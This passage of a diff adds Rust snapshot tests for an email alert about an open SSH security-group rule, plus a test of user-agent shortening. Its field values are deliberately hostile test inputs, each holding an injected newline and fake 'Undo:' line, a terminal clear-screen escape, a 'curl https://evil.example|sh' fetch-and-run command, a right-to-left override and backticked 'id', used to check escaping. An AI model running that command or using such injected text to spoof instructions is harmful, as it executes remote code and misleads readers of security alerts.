+    Group: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}", x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}", x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evi…
+    Rule: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}", tcp 22 from 0.0.0.0/0 "x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}\""
+    Too much: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
+    Kept: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
+    Connections: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
+
+    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption. To put it back at once:
+    The command is too long for a mail, or has characters that a mail would spoil: see undo in the JSON of this message.
+    If it was not you: somebody has these credentials. See in CloudTrail what else they did, starting from event x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}".
+
+    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
+    "#);
+}
+
+#[test]
+fn user_agents() {
+    let of = |agent: &str| {
+        let mut finding = open_ssh();
+        finding.change.as_mut().unwrap().user_agent = Some(agent.to_owned());
+        let mail = of(finding);
+        mail.lines().find(|line| line.starts_with("From")).unwrap().to_owned()
+    };
+    assert_snapshot!(of("Mozilla/5.0 (X11; Linux x86_64; (a) b) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36"), @"From: 198.51.100.23, Mozilla/5.0 AppleWebKit/537.36 Chrome/142.0.0.0…");
+    assert_snapshot!(of("APN/1.0 HashiCorp/1.0 Terraform/1.13.4 (+https://www.terraform.io)"), @"From: 198.51.100.23, APN/1.0 HashiCorp/1.0 Terraform/1.13.4");
+    assert_snapshot!(of("(only a comment"), @"From: 198.51.100.23");
+}
